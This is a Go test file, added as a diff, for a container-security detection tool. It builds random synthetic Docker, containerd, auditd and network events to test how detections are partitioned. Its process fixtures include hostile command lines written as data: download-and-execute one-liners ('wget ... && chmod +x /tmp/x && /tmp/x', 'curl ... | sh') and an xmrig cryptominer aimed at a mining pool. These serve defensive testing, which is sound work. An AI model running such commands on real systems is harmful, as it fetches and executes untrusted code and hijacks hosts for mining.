@@ -1,0 +1,255 @@
+package partition_test
+
+import (
+	"fmt"
+	"math/rand/v2"
+	"net/netip"
+	"strconv"
+	"strings"
+	"testing"
+
+	"tidewaiter/analytic"
+	"tidewaiter/detections"
+	"tidewaiter/event"
+	"tidewaiter/image"
+	"tidewaiter/policy"
+)
+
+func library(t testing.TB) *analytic.Library {
+	t.Helper()
+	lib, err := analytic.Load(detections.Files())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return lib
+}
+
+func randomPolicy(t *testing.T, lib *analytic.Library, rng *rand.Rand) *policy.Policy {
+	t.Helper()
+	if rng.IntN(4) == 0 {
+		return policy.Empty(lib.Vocabulary())
+	}
+	text := `version: 1
+learning: 10m
+default_scope: all
+scopes:
+  all:
+    registries: ["good.example/*"]
+    approved_destinations: ["10.0.0.0/8", "198.51.100.20", "*.good.example"]
+    mutable_tags: false
+  special:
+    inherits: all
+    match: {hosts: ["h1"]}
+    approved_images: ["good.example/app@` + digest(1).String() + `"]
+`
+	p, err := policy.Read(strings.NewReader(text), "test", lib.Vocabulary())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+func digest(n int) image.Digest {
+	d, err := image.ParseDigest(fmt.Sprintf("sha256:%064x", n))
+	if err != nil {
+		panic(err)
+	}
+	return d
+}
+
+// world is a random set of events. It is made to collide: hosts share
+// container images, process ids and addresses are given again, clocks differ,
+// look-ups and links may be missing.
+func world(rng *rand.Rand) []event.Event {
+	w := &worldMaker{rng: rng}
+	w.coarse = w.maybe(40)
+	hosts := 1 + rng.IntN(3)
+	for h := range hosts {
+		w.host = fmt.Sprintf("h%d", h)
+		for c := range 1 + rng.IntN(3) {
+			w.container(h*10 + c)
+		}
+		w.noise()
+	}
+	return w.events
+}
+
+type worldMaker struct {
+	rng    *rand.Rand
+	host   string
+	events []event.Event
+	line   int
+	coarse bool // Docker's clock shows whole seconds, as its text form can
+}
+
+const epoch = int64(1_800_000_000) * event.Second
+
+func (w *worldMaker) add(src event.Source, at int64, res int64, b event.Body) {
+	w.line++
+	if w.coarse && src == event.Docker {
+		res = event.Second
+	}
+	e := event.Event{Place: event.Place{Host: w.host}, Body: b,
+		Origin: event.Origin{Source: src, Format: string(src), File: w.host + "/" + string(src) + ".log", Spans: []event.Span{{Line: w.line}}}}
+	if at != 0 {
+		e.Time = event.Time{At: at / res * res, Res: res}
+	}
+	e.ID = event.NewID(w.host, strconv.Itoa(w.line))
+	w.events = append(w.events, e)
+	if w.rng != nil && w.maybe(8) {
+		w.copies(e)
+	}
+}
+
+// copies adds the same event once more as another file holds it: a rotated
+// part, or an older copy that counts as history.
+func (w *worldMaker) copies(e event.Event) {
+	e.Origin.File = w.host + "/" + []string{"a", "z"}[w.rng.IntN(2)] + string(e.Origin.Source) + ".1"
+	e.Origin.Spans = []event.Span{{Line: 1 + w.rng.IntN(3)}}
+	e.History = w.maybe(30)
+	w.events = append(w.events, e)
+}
+
+// maybe reports true with the given percentage.
+func (w *worldMaker) maybe(percent int) bool { return w.rng.IntN(100) < percent }
+
+func (w *worldMaker) container(n int) {
+	rng := w.rng
+	start := epoch + int64(rng.IntN(1800))*event.Second
+	id := fmt.Sprintf("%064x", 0xabc000+n)
+	imageNo := rng.IntN(4)
+	ref := image.Parse([]string{"good.example/app:1", "evil.example/app:1", "ngnix/nginx", "sha256:" + strings.Repeat("ab", 32)}[imageNo])
+	pid := 100 + rng.IntN(3) // reused on purpose
+	addr := netip.AddrFrom4([4]byte{172, 17, 0, byte(2 + rng.IntN(2))})
+	arrived := start - int64(rng.IntN(1200))*event.Second
+	if w.maybe(80) {
+		w.add(event.Docker, arrived, event.Nanosecond, &event.Image{
+			Action: []event.ImageAction{event.ImagePull, event.ImagePull, event.ImageLoad, event.ImageTag}[rng.IntN(4)], Reference: ref, Digest: maybeDigest(w, imageNo)})
+	}
+	if w.maybe(20) { // the tag was moved in the same instant
+		w.add(event.Docker, arrived, event.Nanosecond, &event.Image{Action: event.ImagePull, Reference: ref, Digest: digest(50 + rng.IntN(2))})
+	}
+	if w.maybe(90) {
+		w.add(event.Docker, start, event.Nanosecond, &event.Container{Action: event.ContainerCreate, ID: id, Name: fmt.Sprint("c", n), Image: ref})
+	}
+	if w.maybe(90) {
+		w.add(event.Docker, start+event.Second, event.Nanosecond, &event.Container{Action: event.ContainerStart, ID: id, Name: fmt.Sprint("c", n), Image: ref})
+	}
+	if w.maybe(80) {
+		w.add(event.Containerd, start+900*event.Millisecond, event.Nanosecond, &event.Task{Action: event.TaskCreate, Container: id, PID: pid})
+	}
+	w.lookups(n, id, ref, imageNo, pid, addr, start)
+	w.add(event.Docker, start+800*event.Millisecond, event.Nanosecond, &event.NetworkAttachment{Container: id, NetworkID: "n", Connected: true})
+	w.processes(id, pid, start)
+	w.traffic(addr, start)
+	if w.maybe(60) {
+		end := start + int64(rng.IntN(1500))*event.Second
+		w.add(event.Docker, end, event.Nanosecond, &event.Container{Action: event.ContainerExit, ID: id})
+		w.add(event.Containerd, end-event.Millisecond, event.Nanosecond, &event.Task{Action: event.TaskExit, Container: id, PID: pid})
+		w.add(event.Docker, end+event.Millisecond, event.Nanosecond, &event.NetworkAttachment{Container: id, NetworkID: "n"})
+	}
+}
+
+func maybeDigest(w *worldMaker, n int) image.Digest {
+	if w.maybe(50) {
+		return digest(n)
+	}
+	return image.Digest{}
+}
+
+func (w *worldMaker) lookups(n int, id string, ref image.Reference, imageNo, pid int, addr netip.Addr, start int64) {
+	if w.maybe(75) {
+		w.add(event.Inspect, 0, 1, &event.ContainerDescription{ID: id, Name: fmt.Sprint("c", n), Image: ref, ImageID: digest(imageNo), PID: pid,
+			StartedAt: event.Time{At: start + event.Second, Res: 1}, Risk: event.Risk{Privileged: w.maybe(10)},
+			HealthCheck: []string{"/bin/sh", "-c", "wget http://198.51.100.99/health"},
+			Networks:    []event.NetworkAddress{{NetworkID: "n", Addrs: []netip.Addr{addr}}}})
+	}
+	if w.maybe(60) {
+		d := &event.ImageDescription{ID: digest(imageNo), RepoTags: []image.Reference{ref}}
+		if w.maybe(60) {
+			d.RepoDigests = []image.Reference{image.Parse("good.example/app@" + digest(100+imageNo).String())}
+		}
+		w.add(event.Inspect, 0, 1, d)
+	}
+	if w.maybe(20) {
+		// A CRI runtime's three names of one pull.
+		at := start - 30*event.Second
+		w.add(event.Containerd, at, 1, &event.Image{Action: event.ImageCreate, Reference: ref, Namespace: "k8s.io"})
+		w.add(event.Containerd, at+event.Millisecond, 1, &event.Image{Action: event.ImageCreate, Reference: image.Parse("good.example/app@" + digest(200+imageNo).String()), Namespace: "k8s.io"})
+		w.add(event.Containerd, at+2*event.Millisecond, 1, &event.Image{Action: event.ImageCreate, Reference: image.Parse(digest(imageNo).String()), Namespace: "k8s.io"})
+	}
+}
+
+func (w *worldMaker) processes(id string, pid int, start int64) {
+	rng := w.rng
+	commands := [][]string{
+		{"/bin/sh", "-c", "wget -q -O /tmp/x http://198.51.100.10/x && chmod +x /tmp/x && /tmp/x"},
+		{"wget", "-O", "/tmp/x", "http://198.51.100.10/x"},
+		{"/tmp/x"},
+		{"/app/server"},
+		{"xmrig", "-o", "stratum+tcp://pool.minexmr.com:4444"},
+		{"sh", "-c", "curl -s http://203.0.113.7/i | sh"},
+		{"/bin/sh", "-c", "wget http://198.51.100.99/health"},
+		{"python3", "-c", "print(1)"},
+	}
+	shim := 50 + rng.IntN(2)
+	if w.maybe(70) {
+		w.exec(start+500*event.Millisecond, shim, 1, "/usr/bin/containerd-shim-runc-v2", []string{"containerd-shim-runc-v2", "-namespace", "moby", "-id", id}, "08:01")
+	}
+	if w.maybe(50) {
+		w.exec(start+600*event.Millisecond, 60+rng.IntN(3), shim, "/usr/bin/runc", []string{"runc", "--root", "/r", "create", id}, "08:01")
+	}
+	dev := fmt.Sprintf("00:%02d", 20+rng.IntN(2))
+	parents := []int{shim, pid, 150 + rng.IntN(3)}
+	at := start + event.Second
+	for i := range rng.IntN(6) {
+		self := pid
+		if i > 0 {
+			self = 150 + rng.IntN(6)
+		}
+		at += int64(rng.IntN(400_000)) * event.Millisecond
+		args := commands[rng.IntN(len(commands))]
+		w.exec(at, self, parents[rng.IntN(len(parents))], "/bin/"+event.ProgramName(args[0]), args, dev)
+		parents = append(parents, self)
+	}
+	if w.maybe(30) {
+		w.add(event.Auditd, at+event.Second, 10*event.Millisecond, &event.FileWrite{PID: pid, PPID: shim, Path: "/tmp/x"})
+	}
+	if w.maybe(30) {
+		w.add(event.Docker, at+2*event.Second, 1, &event.ExecStarted{Container: id, ExecID: "e1", Command: "sh -c curl http://203.0.113.8/"})
+		w.add(event.Containerd, at+2*event.Second, 1, &event.Task{Action: event.TaskStart, Container: id, ExecID: "e1", PID: 170})
+		w.exec(at+2*event.Second, 170, 60, "/bin/sh", []string{"sh", "-c", "curl http://203.0.113.8/"}, dev)
+	}
+}
+
+func (w *worldMaker) exec(at int64, pid, ppid int, exe string, args []string, dev string) {
+	w.add(event.Auditd, at, 10*event.Millisecond, &event.Process{PID: pid, PPID: ppid, Exe: exe, Args: args, Device: dev, UID: 0, AUID: -1})
+}
+
+func (w *worldMaker) traffic(addr netip.Addr, start int64) {
+	rng := w.rng
+	remotes := []string{"198.51.100.10:80", "203.0.113.66:3333", "198.51.100.20:443", "10.1.2.3:5432", "203.0.113.9:443"}
+	for range rng.IntN(4) {
+		at := start + int64(rng.IntN(1_600_000))*event.Millisecond
+		dst := netip.MustParseAddrPort(remotes[rng.IntN(len(remotes))])
+		f := &event.Flow{Protocol: "tcp", Src: netip.AddrPortFrom(addr, uint16(40000+rng.IntN(1000))), Dst: dst, BytesOut: 10, BytesIn: 20, Answered: true}
+		if w.maybe(30) {
+			f.End = event.Time{At: at + 3600*event.Second, Res: event.Microsecond}
+		}
+		if w.maybe(10) {
+			at = 0 // its start is not known
+		}
+		w.add(event.Conntrack, at, event.Microsecond, f)
+	}
+	if w.maybe(40) {
+		w.add(event.Zeek, start+event.Second, event.Microsecond, &event.DNS{
+			Client: netip.AddrPortFrom(addr, 5353), Query: []string{"pool.minexmr.com", "cdn.good.example", "x.example"}[rng.IntN(3)],
+			Addrs: []netip.Addr{netip.MustParseAddr("203.0.113.9"), netip.MustParseAddr("203.0.113.66")}, Code: "NOERROR"})
+	}
+}
+
+func (w *worldMaker) noise() {
+	for range w.rng.IntN(5) {
+		w.exec(epoch+int64(w.rng.IntN(3600))*event.Second, 100+w.rng.IntN(80), 1+w.rng.IntN(180), "/usr/bin/ls", []string{"ls"}, "08:01")
+	}
+}
